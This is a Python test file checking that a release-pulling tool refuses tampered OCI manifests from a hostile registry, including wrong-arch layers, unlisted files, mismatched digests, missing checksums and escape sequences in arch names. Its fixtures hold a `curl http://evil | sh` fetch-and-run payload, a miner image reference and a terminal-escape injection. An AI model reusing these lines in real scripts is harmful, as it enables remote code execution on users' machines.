"""A hostile registry against `pull-release` (issue 10, item 6).

The registry (a real CNCF distribution on loopback, `registry` fixture) serves a real release
pushed by `release`'s own code, then manifests the attacker edited: a layer titled for another
arch, a file no checksum file lists, a digest other than the listed one, no checksum file at all,
an arch name with terminal escapes. Each is refused before anything is written. And
`--require-signature` checks every arch in the directory, not only those pulled now.
"""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import pytest

from builder import digest as dg
from builder.fetch.registry import RegistryClient
from builder.oci import model as m
from builder.oci.reference import Reference
from builder.publish import release as rl
from builder.publish.pull_release import PullError, pull_release
from builder.trust import sign
from tests.plugins.release import run_builder
from tests.plugins.releases import unsigned_copy
from tests.test_release import REPO, client_for

ARCHES = ("amd64", "arm64")


@pytest.fixture
def pushed(tmp_path: Path, registry, releases) -> tuple[RegistryClient, Reference, str, Path]:
    """(client, repository, version tag, public key) of a signed two-arch release pushed to the
    registry by `release`'s own code."""
    out = tmp_path / "artifacts"
    keys = sign.generate_key(tmp_path / "keys" / "k.pem", allow_unencrypted=True)
    for arch in ARCHES:
        unsigned_copy(releases["v1" if arch == "amd64" else arch], out)
    sign.sign_checksums(out, sign.load_private_key(keys.private))
    client = client_for(registry)
    rel = rl.collect(out)
    ref = Reference(registry.host, REPO)
    rl.push_artifacts(client, rel, ref)
    return client, ref, rel.tag, keys.public


def _manifest(client: RegistryClient, ref: Reference, tag: str) -> dict:
    return json.loads(client.get_manifest(ref.with_tag(tag)).raw)


def _push(client: RegistryClient, ref: Reference, tag: str, doc: dict, media: str) -> None:
    client.push_manifest(ref, tag, m.canonical_json(doc), media)


def _blob(client: RegistryClient, ref: Reference, data: bytes, title: str) -> dict:
    client.push_blob(ref, dg.of_bytes(data), len(data), lambda: io.BytesIO(data))
    return {"mediaType": "application/octet-stream", "digest": dg.of_bytes(data),
            "size": len(data), "annotations": {m.ANNOTATION_TITLE: title}}


def _title(layer: dict) -> str:
    return layer["annotations"][m.ANNOTATION_TITLE]


def _refused(client: RegistryClient, ref: Reference, tag: str, out: Path, match: str) -> None:
    with pytest.raises(PullError, match=match):
        pull_release(client, ref.with_tag(tag), out)
    assert not out.exists() or not list(out.iterdir()), "nothing may be written"


def test_a_layer_titled_for_another_arch_is_refused(pushed, tmp_path: Path) -> None:
    client, ref, tag, _ = pushed
    doc = _manifest(client, ref, f"{tag}-amd64")
    arm = _manifest(client, ref, f"{tag}-arm64")
    doc["layers"].append(next(la for la in arm["layers"] if _title(la) == "rke2.linux-arm64.tar.gz"))
    _push(client, ref, "evil", doc, m.OCI_MANIFEST)
    _refused(client, ref, "evil", tmp_path / "out",
             r"layer rke2\.linux-arm64\.tar\.gz is not a linux-amd64 file")


@pytest.mark.parametrize(("title", "match"), [
    ("install.sh", r"layer install\.sh is not a linux-amd64 file"),
    ("rke2-images-extra.linux-amd64.txt",
     r"layer rke2-images-extra\.linux-amd64\.txt is not listed in sha256sum-amd64\.txt"),
])
def test_a_layer_the_checksum_file_does_not_list_is_refused(pushed, tmp_path: Path, title: str,
                                                            match: str) -> None:
    client, ref, tag, _ = pushed
    doc = _manifest(client, ref, f"{tag}-amd64")
    doc["layers"].append(_blob(client, ref, b"#!/bin/sh\ncurl http://evil | sh\n", title))
    _push(client, ref, "evil", doc, m.OCI_MANIFEST)
    _refused(client, ref, "evil", tmp_path / "out", match)


def test_a_layer_with_another_digest_than_listed_is_refused(pushed, tmp_path: Path) -> None:
    client, ref, tag, _ = pushed
    doc = _manifest(client, ref, f"{tag}-amd64")
    name = "rke2-images-core.linux-amd64.txt"
    doc["layers"] = [la for la in doc["layers"] if _title(la) != name]
    doc["layers"].append(_blob(client, ref, b"docker.io/evil/miner:latest\n", name))
    _push(client, ref, "evil", doc, m.OCI_MANIFEST)
    _refused(client, ref, "evil", tmp_path / "out",
             rf"layer {name.replace('.', '[.]')} is sha256:[0-9a-f]{{64}}, sha256sum-amd64\.txt lists")


def test_an_artifact_without_its_checksum_file_is_refused(pushed, tmp_path: Path) -> None:
    client, ref, tag, _ = pushed
    doc = _manifest(client, ref, f"{tag}-amd64")
    doc["layers"] = [la for la in doc["layers"] if not _title(la).startswith("sha256sum-")]
    _push(client, ref, "evil", doc, m.OCI_MANIFEST)
    _refused(client, ref, "evil", tmp_path / "out",
             r"no sha256sum-amd64\.txt among its layers: nothing vouches for its files")


def test_an_unknown_arch_is_refused_and_escaped(pushed, tmp_path: Path) -> None:
    client, ref, tag, _ = pushed
    index = _manifest(client, ref, tag)
    index["manifests"][0]["annotations"][rl.ANNOTATION_ARCH] = "amd64\x1b[2J"
    _push(client, ref, "evil", index, m.OCI_INDEX)
    with pytest.raises(PullError) as err:
        pull_release(client, ref.with_tag("evil"), tmp_path / "out")
    assert "unknown arch 'amd64\\x1b[2J'" in err.value.message
    assert "\x1b" not in str(err.value)


def test_require_signature_checks_every_arch_in_the_directory(pushed, tmp_path: Path) -> None:
    """Pulling amd64 into a directory that already holds arm64 files nobody signed: those files
    are there for install.sh to find, so the signature check covers them too."""
    client, ref, tag, public = pushed
    out = tmp_path / "media"
    pull_release(client, ref.with_tag(tag), out, ["arm64"])
    (out / "sha256sum-arm64.txt.sig").unlink()  # the attacker's arm64 half, unsigned
    proc = run_builder("pull-release", f"{ref.host}/{ref.repository}:{tag}", str(out),
                       "--insecure", "--arch", "amd64", "--public-key", str(public),
                       "--require-signature", check=False)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "sha256sum-arm64.txt.sig: missing: the checksum file is not signed" in proc.stderr
    # Both halves signed: the same pull passes.
    shutil.rmtree(out)
    pull_release(client, ref.with_tag(tag), out, ["arm64"])
    run_builder("pull-release", f"{ref.host}/{ref.repository}:{tag}", str(out), "--insecure",
                "--arch", "amd64", "--public-key", str(public), "--require-signature")
